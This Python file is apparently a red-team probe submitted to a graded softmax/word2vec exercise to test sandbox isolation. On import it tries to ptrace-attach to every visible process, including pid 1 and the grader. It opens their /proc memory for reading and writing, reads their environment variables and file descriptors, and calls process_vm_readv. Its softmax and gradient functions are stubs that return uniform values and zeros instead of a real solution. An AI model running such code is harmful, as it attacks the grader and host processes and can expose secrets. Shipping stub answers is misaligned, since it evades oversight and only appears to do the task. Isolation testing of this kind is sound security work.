"""REDTEAM damage_ptrace: trace, read and write the memory of the zygote and the grader.

Attack: ptrace(PTRACE_ATTACH/SEIZE) every pid it can see, process_vm_readv, open
/proc/<pid>/mem for reading and writing, read /proc/<pid>/environ, maps, fd/ and
cwd of pid 1, the zygote and the parent; report what worked.
Bound: the baseline.
"""
import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
worked = []
for pid in sorted({int(p) for p in os.listdir("/proc") if p.isdigit()} | {1, 2, os.getppid()}):
    if pid == os.getpid():
        continue
    for req in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        if libc.ptrace(req, pid, None, None) == 0:
            worked.append(("ptrace", pid, req))
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    for name, mode in (("mem", "rb"), ("mem", "r+b"), ("environ", "rb"), ("maps", "rb"), ("cmdline", "rb")):
        try:
            with open(f"/proc/{pid}/{name}", mode) as f:
                worked.append((name, pid, mode, len(f.read(64) if name != "mem" else b"")))
        except (OSError, ValueError):
            pass
    for name in ("fd", "cwd", "root", "map_files"):
        try:
            worked.append((name, pid, os.listdir(f"/proc/{pid}/{name}")[:5]))
        except OSError:
            pass

    class IOVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    buf = ctypes.create_string_buffer(64)
    local, remote = IOVec(ctypes.addressof(buf), 64), IOVec(0x400000, 64)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        worked.append(("process_vm_readv", pid))
print("REDTEAM ptrace results", worked)


def softmax(x):
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)

